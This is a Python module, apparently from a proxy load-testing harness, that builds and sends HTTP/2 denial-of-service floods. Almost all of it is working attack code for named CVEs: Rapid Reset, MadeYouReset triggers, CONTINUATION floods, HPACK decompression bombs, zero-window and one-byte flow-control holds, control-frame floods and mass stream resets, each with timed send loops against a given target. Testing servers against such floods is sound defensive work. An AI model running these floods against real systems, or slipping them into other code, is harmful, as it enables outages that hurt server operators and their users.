"""Floods of HTTP/2: each builds its bytes once and sends them to whatever proxy it is given."""

import struct
import time

from harness import h2
from harness.h2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, \
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
from wire import Tally, again_and_again, hear, pump, reset

_RESET = b"\x00\x00\x04\x03\x00"  # how a frame of RST_STREAM begins
_OPENED = END_HEADERS | END_STREAM
# By the static table: GET, https, /.
_GET, _POST, _HTTPS, _ROOT = b"\x82", b"\x83", b"\x87", b"\x84"


def _authority(target):
    """Literally, and kept in the dynamic table; from then on \\xbe names it."""
    name = target.host.encode()
    return b"\x41" + bytes([len(name)]) + name


def _hello(*settings):
    return PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", *s) for s in settings))


def _first(target, method=_GET, flags=_OPENED, more=b""):
    return frame(HEADERS, flags, 1, method + _HTTPS + _ROOT + _authority(target) + more)


def _next(stream, method=_GET, flags=_OPENED, more=b""):
    return frame(HEADERS, flags, stream, method + _HTTPS + _ROOT + b"\xbe" + more)


def _streams(target, count, each, method=_GET, flags=_OPENED, more=b""):
    """A head for each stream and what each(stream) adds to it."""
    parts = [_hello(), _first(target, method, flags, more), each(1)]
    for stream in range(3, 2 * count, 2):
        parts += [_next(stream, method, flags, more), each(stream)]
    return b"".join(parts)


def _rst(stream):
    return frame(RST_STREAM, 0, stream, struct.pack("!I", h2.CANCEL))


def rapid_reset(target, seconds, count=100000):
    """HEADERS and RST_STREAM, a hundred thousand times on a connection (CVE-2023-44487)."""
    data = _streams(target, count, _rst)
    return again_and_again(target, data, seconds, unit=len(data) // count)


# MadeYouReset (CVE-2025-8671): what makes the proxy itself reset a stream.
_OVERFLOW = struct.pack("!I", 0x7fffffff)
TRIGGERS = {
    "window of 0": (_GET, _OPENED, lambda s: frame(WINDOW_UPDATE, 0, s, struct.pack("!I", 0))),
    "window overflow": (_GET, _OPENED, lambda s: frame(WINDOW_UPDATE, 0, s, _OVERFLOW)),
    "DATA after the end": (_GET, _OPENED, lambda s: frame(DATA, 0, s, b"late")),
    "HEADERS after the end": (_GET, _OPENED, lambda s: frame(HEADERS, _OPENED, s, b"\x00\x01x\x01y")),
    "PRIORITY of 4 bytes": (_GET, _OPENED, lambda s: frame(PRIORITY, 0, s, b"\0\0\0\0")),
    "PRIORITY on itself": (_GET, _OPENED, lambda s: frame(PRIORITY, 0, s, struct.pack("!IB", s, 1))),
    "length unlike DATA": (_POST, END_HEADERS, lambda s: frame(DATA, END_STREAM, s, b"123")),
}


def made_you_reset(trigger, count=50000):
    method, flags, each = TRIGGERS[trigger]
    more = b"\x0f\x0d\x015" if method == _POST else b""  # content-length: 5

    def attack(target, seconds):
        data = _streams(target, count, each, method, flags, more)
        return again_and_again(target, data, seconds, unit=len(data) // count)

    return attack


def continuation_flood(kind, count=2000):
    """A header section that never ends (CVE-2024-27316 and its many sisters)."""
    piece = {"empty": b"", "literal": h2.literal("x", "y" * 1000),
             # A name of 1000 Huffman-coded bytes, of the longest codes there are.
             "huffman": b"\x00\x01x" + b"\xff\xe9\x06" + b"\xff" * 1000}[kind]

    def attack(target, seconds):
        begin = _hello() + frame(HEADERS, END_STREAM, 1, _GET + _HTTPS + _ROOT + _authority(target))
        more = frame(CONTINUATION, 0, 1, piece)
        return again_and_again(target, more * count, seconds, len(more), begin=begin)

    return attack


def _section(stream, block, flags=END_STREAM):
    """A header section in as many frames as it takes."""
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = b""
    for i, piece in enumerate(pieces):
        last = END_HEADERS if i == len(pieces) - 1 else 0
        out += frame(CONTINUATION, last, stream, piece) if i else \
            frame(HEADERS, flags | last, stream, piece)
    return out


def hpack_bomb(target, seconds):
    """A value of 4 KiB once, and then 4000 references of one byte (CVE-2016-6581)."""
    head = _GET + _HTTPS + _ROOT + _authority(target)
    large = frame(HEADERS, _OPENED, 1, head + h2.literal("x", "v" * 3900, indexed=True))
    refs = b"".join(_section(s, _GET + _HTTPS + _ROOT + b"\xbf" + b"\xbe" * 4000)
                    for s in range(3, 203, 2))
    return again_and_again(target, refs, seconds, len(refs) // 100, begin=_hello() + large)


def bomb_of_2026(target, seconds, streams=100, refs=16000):
    """
    Cookie crumbs of one byte on the wire each, on a hundred streams, and a window of nothing that
    keeps what came of them (CVE-2026-49975, -47774). The connections are held to the end.
    """
    head = _GET + _HTTPS + _ROOT
    tiny = frame(HEADERS, _OPENED, 1, head + _authority(target) +
                 h2.literal("cookie", "", indexed=True))
    data = _hello((h2.INITIAL_WINDOW_SIZE, 0)) + tiny + b"".join(
        _section(s, head + b"\xbf" + b"\xbe" * refs) for s in range(3, 2 * streams + 3, 2))
    return _held(target, data, seconds, 1)


def _held(target, data, seconds, connections, each=None, resets=None):
    """
    All sent at once, and the connections kept open until they are cut, or so many streams are reset;
    each is sent again and again meanwhile.
    """
    tally, end = Tally(), time.monotonic() + seconds
    held = []
    for _ in range(connections):
        sock = target.open()
        tally.connections += 1
        began = time.monotonic()
        sent, _, stands = pump(sock, data, min(5.0, seconds))
        tally.bytes += sent
        held.append((sock, began, stands))
    while held and time.monotonic() < end and (resets is None or tally.units < resets):
        left = []
        for sock, began, stands in held:
            heard, stands = hear(sock, 0.001 if each else 0.02) if stands else (b"", False)
            if stands and each is not None:
                sent, more, stands = pump(sock, each, 0.05)
                heard += more
                tally.bytes += sent
            tally.units += heard.count(_RESET)
            if stands:
                left.append((sock, began, True))
            else:
                tally.ended(began, False)
                reset(sock)
        held = left
        time.sleep(0.05)
    tally.notes["held"] = len(held)
    for sock, _, _ in held:
        reset(sock)
    return tally


def pinned_windows(target, seconds, connections=8, streams=100, path="/?bytes=70000"):
    """Large answers asked for and no window to send them into: what do they hold meanwhile?"""
    block = _GET + _HTTPS + h2.literal(":path", path)
    identity = h2.literal("x-id", "attack-0123456789abcdef0123456789")  # as in h1_floods.py
    data = _hello((h2.INITIAL_WINDOW_SIZE, 0)) + b"".join(
        frame(HEADERS, _OPENED, s, block + (b"\xbe" if s > 1 else _authority(target)) + identity)
        for s in range(1, 2 * streams, 2))
    return _held(target, data, seconds, connections, resets=connections * streams)


def window_by_the_byte(target, seconds, streams=20):
    """An answer taken by one byte at a time: never stalled, and never done."""
    block = _GET + _HTTPS + h2.literal(":path", "/?bytes=70000")
    identity = h2.literal("x-id", "attack-0123456789abcdef0123456789")
    data = _hello((h2.INITIAL_WINDOW_SIZE, 1)) + b"".join(
        frame(HEADERS, _OPENED, s, block + (b"\xbe" if s > 1 else _authority(target)) + identity)
        for s in range(1, 2 * streams, 2))
    one = b"".join(frame(WINDOW_UPDATE, 0, s, struct.pack("!I", 1))
                   for s in range(1, 2 * streams, 2))
    return _held(target, data, seconds, 5, one, 5 * streams)


FRAMES = {
    "PING": frame(PING, 0, 0, b"12345678"),
    "SETTINGS": frame(SETTINGS),
    "SETTINGS of many": frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535) * 30),
    "PRIORITY": frame(PRIORITY, 0, 5, struct.pack("!IB", 0, 1)),
    "empty DATA": frame(DATA, 0, 1),
    "WINDOW_UPDATE": frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)),
    "unknown": frame(0xfa, 0, 0, b""),
}


def frame_flood(kind, count=100000):
    """Frames that cost nothing to send and move nothing (CVE-2019-9511 to -9518)."""

    def attack(target, seconds):
        begin = _hello() + _first(target, _POST, END_HEADERS)
        one = FRAMES[kind]
        return again_and_again(target, one * count, seconds, len(one), begin=begin)

    return attack


def mass_reset(streams, tls=True):
    """Requests on so many streams at once, all reset when they are under way."""

    def attack(target, seconds):
        tally, end = Tally(), time.monotonic() + seconds
        opened = _streams(target, streams, lambda s: b"")
        resets = b"".join(_rst(s) for s in range(1, 2 * streams, 2))
        while time.monotonic() < end:
            try:
                sock = target.open(tls=tls)
            except OSError:
                continue
            tally.connections += 1
            began = time.monotonic()
            a, _, _ = pump(sock, opened)
            hear(sock, 0.01)
            b, _, stands = pump(sock, resets)
            tally.bytes += a + b
            tally.units += streams
            tally.ended(began, stands)
            reset(sock)
        return tally

    return attack


def unread_answers(target, seconds):
    """Requests whose answers nobody reads: PINGs behind a full socket."""
    tally, end = Tally(), time.monotonic() + seconds
    sock = target.open(receive_buffer=4096)
    sent, _, stands = pump(sock, _hello() + FRAMES["PING"] * 200000, seconds, listen=False)
    tally.bytes, tally.connections = sent, 1
    while stands and time.monotonic() < end:
        time.sleep(0.05)
    reset(sock)
    return tally
